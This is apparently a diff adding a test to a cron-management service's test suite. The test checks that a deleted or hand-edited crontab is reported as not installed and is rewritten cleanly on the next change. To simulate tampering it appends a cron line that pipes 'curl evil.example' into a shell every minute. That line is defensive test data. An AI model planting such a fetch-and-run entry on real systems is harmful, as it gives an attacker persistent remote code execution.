@@ -206,3 +206,27 @@ async def test_a_crontab_edited_by_hand_is_replaced_at_the_next_change(
     assert crontab_listing(cron_account) == expected_crontab(
         ("aaaa1111", "*/15 * * * * echo a"), ("bbbb2222", "*/15 * * * * echo b")
     )
+
+
+async def test_a_crontab_removed_or_edited_by_hand_is_listed_as_not_installed(
+    cron: Stub, cron_account: str
+) -> None:
+    """What the gateway's reconcile reads to install it again; any put installs it whole."""
+
+    async def installed() -> bool:
+        request = cron_pb2.ListCronJobsRequest(account=cron_account)
+        return (await cron.ListCronJobs(request)).installed
+
+    assert await installed()  # no jobs: nothing to install
+    await create(cron, cron_account, job("aaaa1111"))
+    assert await installed()
+    (SPOOL_DIR / cron_account).unlink()
+    assert not await installed()
+    await create(cron, cron_account, job("aaaa1111"))
+    assert await installed()
+    spool = SPOOL_DIR / cron_account
+    spool.write_text(spool.read_text() + "* * * * * curl evil.example | sh\n")
+    assert not await installed()
+    await create(cron, cron_account, job("bbbb2222"))
+    assert await installed()
+    assert "evil" not in (crontab_listing(cron_account) or "")
